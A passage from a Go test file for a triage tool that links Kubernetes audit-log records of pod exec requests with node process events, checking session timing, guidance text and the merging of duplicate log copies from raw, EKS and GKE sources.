		t.Errorf("merged start and end without @timestamp: started %q ended %q, want process.start and process.end", shell.Timestamp, shell.Process.End)
	}

	_, shell = build("ResponseComplete", event(t, "p.ndjson", 1, leader, r2))
	if !strings.Contains(shell.Guidance, "Its own end is not in the logs scanned, but the exec request that opened it closed at 2026-11-20T10:03:00Z.") {
		t.Errorf("no end, the request closed: guide:\n%s", shell.Guidance)
	}
}

// Process events whose sessions began before the logs did (only a child
// of one is in them) were still scanned: the exec's guide says no session
// in them was linked, rather than asking for them.
func TestExecGuideKnowsProcessEventsWereScanned(t *testing.T) {
	r1 := mustRule(t, rule1)
	child := event(t, "p.ndjson", 1, `{"@timestamp":"2026-11-20T10:00:01Z","event":{"category":["process"],"type":["start"],"action":"exec"},"container":{"id":"c0ffee","name":"api"},"process":{"entity_id":"C1","args":["id"],"entry_leader":{"entity_id":"L0","interactive":false,"same_as_process":false,"entry_meta":{"type":"container"}}}}`)
	child.Context = []string{triage.ContextQuiet}
	uri := "/api/v1/namespaces/shop/pods/api-1/exec?command=id&container=api&stdout=true"
	for _, tc := range []struct {
		events []triage.Event
		want   string
	}{
		{nil, "Scan this audit log together with the node's process events"},
		{[]triage.Event{child}, "No session in the process events scanned was linked to this request"},
	} {
		events := append([]triage.Event{event(t, "a.log", 1, auditLine("A", "ResponseComplete", "create", "alice", uri, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:02Z", true), r1)}, tc.events...)
		rep := triage.Build(events, triage.Options{Guide: true})
		if len(rep.Findings) != 1 || !strings.Contains(rep.Findings[0].Guidance, tc.want) {
			t.Errorf("%d process events: the guide does not say %q:\n%s", len(tc.events), tc.want, rep.Findings[0].Guidance)
		}
	}
}

// Copies of one request read in any order make the same finding: the
// cluster from whichever copy's wrapper names it (a raw log beside an EKS
// export), the start from the earliest (GKE may log an operation twice).
func TestRequestCopiesInAnyOrder(t *testing.T) {
	r1 := mustRule(t, rule1)
	raw := event(t, "audit.log", 1, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1)
	eks := event(t, "eks.json", 7, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:00:00.050Z", true), r1)
	eks.Cluster = "prod-euw1"
	later := event(t, "gke.json", 3, auditLine("A", "ResponseStarted", "create", "alice", uriBash, 101, "2026-11-20T10:14:00Z", "2026-11-20T10:14:00Z", true), r1)
	for _, order := range [][]triage.Event{{raw, eks, later}, {later, eks, raw}, {eks, later, raw}} {
		rep := triage.Build(order, triage.Options{})
		if len(rep.Findings) != 1 {
			t.Fatalf("%d findings, want 1", len(rep.Findings))
		}
		f := rep.Findings[0]
		if f.Orch == nil || f.Orch.Cluster == nil || f.Orch.Cluster.Name != "prod-euw1" || f.Timestamp != "2026-11-20T10:00:00Z" {
			t.Errorf("read %s first: cluster %+v, time %s; want prod-euw1 and the earliest start", order[0].File, f.Orch, f.Timestamp)
		}
	}
}

// A ResponseComplete dated before the request was received gives no
// (negative) length, and a note.
func TestSessionEndBeforeStart(t *testing.T) {
	r1 := mustRule(t, rule1)
	rep := triage.Build([]triage.Event{
		event(t, "a.log", 1, auditLine("A", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T09:42:08Z", true), r1),
	}, triage.Options{Guide: true})
	f := rep.Findings[0]
	if f.Session == nil || f.Session.DurationMS != nil || !slices.ContainsFunc(f.Notes, func(n string) bool { return strings.Contains(n, "before the request was received") }) || strings.Contains(f.Guidance, "lasted -") {
		t.Errorf("session %+v, notes %q", f.Session, f.Notes)
	}
}
